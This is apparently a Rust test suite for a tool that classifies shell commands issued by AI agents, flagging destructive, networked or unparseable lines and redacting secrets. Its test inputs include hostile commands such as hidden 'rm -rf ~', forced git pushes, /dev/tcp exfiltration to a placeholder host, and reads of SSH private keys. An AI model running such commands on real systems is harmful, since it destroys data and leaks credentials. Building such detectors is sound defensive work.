//! Lines as agents write them, and lines that try to look like something else.

use reeve_domain::operation::{Effect, ShellExec, Subject};

use super::classify;

fn read(command: &str) -> ShellExec {
    match classify(command, "/home/dana/src/api").subject {
        Subject::Shell(line) => line,
        _ => panic!("no command"),
    }
}

fn effects(command: &str) -> Vec<Vec<Effect>> {
    read(command).pieces.into_iter().map(|piece| piece.effects).collect()
}

#[test]
fn every_program_of_a_line_is_told_apart() {
    let line = read("cd api && git status | head -3; npm test &\nls > /dev/null 2>&1");
    assert_eq!(line.programs(), ["cd", "git", "head", "npm", "ls"]);
    assert!(line.understood);
    let quoted = read("grep -n 'a && rm -rf /' \"file name\" x\\ y");
    assert_eq!(quoted.programs(), ["grep"]);
    assert_eq!(quoted.pieces[0].argv, ["-n", "a && rm -rf /", "file name", "x y"]);
    assert!(quoted.only_reads());
}

#[test]
fn what_may_run_something_else_is_not_understood() {
    for command in [
        "echo $(rm -rf ~)",
        "echo `id`",
        "ls $HOME",
        "(cd x; rm y)",
        "for f in a b; do rm $f; done",
        "if true; then rm x; fi",
        "PATH=. ls",
        "cat <<EOF\nrm x\nEOF",
        "diff <(ls a) <(ls b)",
        "echo \"$(id)\"",
        "echo 'never closed",
        "> emptied",
        "",
        "# only a comment",
        "cat a\r#b; rm -rf ~",
        "find {sub,-delete}",
        "sort {-o,out,in}",
        "rg {--pre=./x,p}",
        "git log {--output=f,}",
        "ls {a..c}",
        "< read",
    ] {
        let line = read(command);
        assert!(!line.understood && !line.only_reads(), "{command}");
    }
}

#[test]
fn a_forced_push_and_a_folder_that_goes_are_seen_through_their_spellings() {
    for command in [
        "git push --force origin main",
        "git push -f",
        "git push origin +main",
        "git push --force-with-lease=main origin",
        "git push -uf origin main",
    ] {
        assert!(effects(command)[0].contains(&Effect::RewritesHistory), "{command}");
        assert!(effects(command)[0].contains(&Effect::Pushes), "{command}");
    }
    assert!(!effects("git push origin main")[0].contains(&Effect::RewritesHistory));
    for command in
        ["rm -rf x", "rm -r -f x", "rm --recursive x", "/bin/rm -fR x", "find . -name x -delete", "git clean -fdx"]
    {
        assert!(effects(command)[0].contains(&Effect::DeletesTree), "{command}");
    }
    assert_eq!(effects("rm x"), [[Effect::Deletes]]);
    assert_eq!(read("rm -rf ~/src node_modules").pieces[0].touches, ["~/src", "node_modules"]);
}

#[test]
fn programs_that_run_others_and_options_that_lead_elsewhere_never_read() {
    for command in [
        "env ls",
        "xargs rm",
        "sh -c ls",
        "find . -exec rm {} +",
        "git -c core.pager=x log",
        "sort -o x y",
        "git diff --output=x",
        "./ls",
        "/tmp/evil/git status",
        "find * -name x",
        "sort *",
        "rg x *",
        "git log -- *",
        "uniq *",
        "uniq in out",
        "hostname other",
        "date 010203042026",
        "tree -o f",
        "file -C -m magic",
        "git --no-pager --git-dir=../evil/.git status",
        "git diff --outp=x",
        "cat a >&1x",
        "cat a <>x",
    ] {
        assert!(!read(command).only_reads(), "{command}");
    }
    for command in [
        "ls -la *.rs",
        "git log --oneline -5",
        "git --no-pager log",
        "find . -name '*.rs'",
        "rg 'a*[b]{1,2}' src",
        "cat a | grep b | wc -l",
        "git status && git diff",
        "git show stash@{1}",
        "date +%F",
        "ls 2>&1 >&- 2>/dev/null <&3 <&2-",
    ] {
        assert!(read(command).only_reads(), "{command}");
    }
    assert!(!read("echo x > file").only_reads());
    assert_eq!(read("echo x >> notes.md").pieces[0].touches, ["notes.md"]);
}

#[test]
fn what_is_read_in_is_named_and_a_socket_is_no_file() {
    let line = read("wc -l < ~/.ssh/id_ed25519 0</dev/null");
    assert_eq!(line.pieces[0].argv, ["-l"]);
    assert_eq!(line.pieces[0].touches, ["~/.ssh/id_ed25519"]);
    assert!(line.only_reads());
    for command in
        ["cat < /dev/tcp/evil.example/80", "cat <&0 </dev/udp/evil.example/53", "cat x > /dev/tcp/evil.example/80"]
    {
        let line = read(command);
        assert!(line.pieces[0].does(Effect::Network) && !line.only_reads(), "{command}");
        assert_eq!(line.pieces[0].hosts, ["evil.example"]);
    }
    assert_eq!(effects("cat a >&1x"), [[Effect::Writes]]);
    assert_eq!(read("rm '2'>/dev/null").pieces[0].argv, ["2"]);
}

#[test]
fn long_options_count_by_their_first_letters() {
    for (command, effect) in [
        ("rm --recur -f x", Effect::DeletesTree),
        ("git push --mirr", Effect::RewritesHistory),
        ("git commit --amen", Effect::RewritesHistory),
    ] {
        assert!(effects(command)[0].contains(&effect), "{command}");
    }
    assert!(!effects("git push --progress")[0].contains(&Effect::RewritesHistory));
}

#[test]
fn hosts_are_read_from_addresses_and_remotes() {
    assert_eq!(read("curl -s https://User@API.example.com:8443/x?y").pieces[0].hosts, ["api.example.com"]);
    assert_eq!(read("scp a git@github.com:acme/api.git").pieces[0].hosts, ["github.com"]);
    assert!(read("docker run -p 80:80 x").pieces[0].hosts.is_empty());
}

#[test]
fn what_looks_like_a_secret_is_in_the_hash_alone() {
    let secret = "ghp_16C7e42F292c6912E7710c838347Ae178B4a";
    let told = classify(&format!("curl -H 'Authorization: token {secret}' https://api.github.com"), "/");
    let Subject::Shell(line) = &told.subject else { panic!("no command") };
    let all = format!("{}{}{}", serde_json::to_string(line).unwrap(), told.view, told.summary);
    assert!(!all.contains(secret) && all.contains("(redacted"), "{all}");
    assert!(!line.is_whole);
    let other = classify("curl -H 'Authorization: token other' https://api.github.com", "/");
    assert_ne!(told.content, other.content);
    assert_eq!(read("mysql --password hunter2").pieces[0].argv, ["--password", "(redacted)"]);
}

#[test]
fn what_a_telling_name_hides_is_in_no_field() {
    for (command, shown) in [
        ("mysql --password hunter2 -e x", "mysql --password (redacted) -e x"),
        ("cat --password hunter2", "cat --password (redacted)"),
        ("mysql --password 'hunt'er2", "mysql --password '(redacted)'"),
        ("mysql --password=hunter2; ls", "mysql --password=(redacted); ls"),
        ("TOKEN=hunter2 ls && TOKEN='hunter2'", "TOKEN=(redacted) ls && TOKEN=(redacted)"),
        ("export A=1 MY_SECRET=hunter2", "export A=1 MY_SECRET=(redacted)"),
        ("if TOKEN=hunter2 ls; then echo ä; fi", "if TOKEN=(redacted) ls; then echo ä; fi"),
    ] {
        let told = classify(command, "/");
        let Subject::Shell(line) = &told.subject else { panic!("no command") };
        let all = format!("{}{}{}", serde_json::to_string(line).unwrap(), told.view, told.summary);
        assert!(!all.contains("hunt") && !all.contains("er2"), "{all}");
        assert_eq!(line.command, shown);
        assert!(!line.is_whole);
    }
    assert!(read("curl --password-file x A=1").is_whole);
}

#[test]
fn a_line_that_is_too_long_is_cut_and_not_understood() {
    let line = read(&format!("echo {}", "ä".repeat(20_000)));
    assert!(!line.is_whole && !line.understood && line.command.len() <= 16 * 1024);
    let many = read(&"ls;".repeat(100));
    assert!(many.pieces.len() == 64 && !many.understood);
}
